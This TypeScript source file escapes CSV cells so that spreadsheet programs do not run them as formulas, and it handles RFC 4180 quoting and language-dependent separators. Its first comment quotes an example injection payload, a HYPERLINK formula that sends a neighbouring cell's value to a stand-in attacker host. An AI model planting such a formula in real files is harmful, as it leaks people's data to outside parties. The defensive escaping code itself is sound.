/**
 * A spreadsheet program reads a cell that begins with one of these as a formula (or, for tab and carriage
 * return, strips them and reads what follows): `=HYPERLINK("http://evil.example/?x="&A3,"Andes")` in a company
 * name would become a link that sends the neighbouring cell away. OWASP's CSV-injection rule (decision 044).
 */
const FORMULA_START = /^[=+\-@\t\r\n]/;

/** A number as a spreadsheet reads it (`-12`, `+3.5`, `-1,250.75`, `-4%`): kept, so figures stay figures. */
const PLAIN_NUMBER = /^[+-]?\d+(?:[.,]\d+)*%?$/;

/**
 * The text of a CSV cell that no spreadsheet program runs as a formula: a leading `'` where the text could start
 * one, which the programs show as text and do not display. Every CSV the product writes goes through it.
 */
export function neutraliseCsvCell(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

/**
 * One cell of RFC 4180 text, neutralised: quoted when it holds a comma, a quote, a line break or a semicolon
 * (the separator spreadsheet programs use in languages where the comma is the decimal mark).
 */
export function csvCell(text: string): string {
  const safe = neutraliseCsvCell(text);
  return /[",;\r\n]/.test(safe) ? `"${safe.replaceAll('"', '""')}"` : safe;
}

/** How a CSV file separates its cells: asked for by name, since `;` and `,` are awkward in an address. */
export const CSV_SEPARATORS = ['comma', 'semicolon'] as const;
export type CsvSeparator = (typeof CSV_SEPARATORS)[number];

/**
 * The separator a reader's spreadsheet program expects unless they choose (decision 055): Excel in Spanish or
 * Portuguese uses the comma as its decimal mark and reads `;` as the list separator; in English, `,`.
 */
export function csvSeparatorFor(language: string, chosen?: CsvSeparator): CsvSeparator {
  if (chosen) return chosen;
  return language === 'es' || language === 'pt' ? 'semicolon' : 'comma';
}

/**
 * A whole CSV file: UTF-8 with a byte-order mark (so Excel reads the accents right), CRLF line ends, every cell
 * neutralised and quoted as RFC 4180 asks.
 */
export function csvFile(lines: readonly (readonly string[])[], separator: CsvSeparator): string {
  return `\uFEFF${csvLines(lines, separator)}`;
}

/**
 * Lines of a CSV file without the byte-order mark, each ending CRLF: what a file streamed in batches writes
 * after its first part (which `csvFile` starts with the mark).
 */
export function csvLines(lines: readonly (readonly string[])[], separator: CsvSeparator): string {
  const mark = separator === 'semicolon' ? ';' : ',';
  return lines.map((cells) => `${cells.map(csvCell).join(mark)}\r\n`).join('');
}
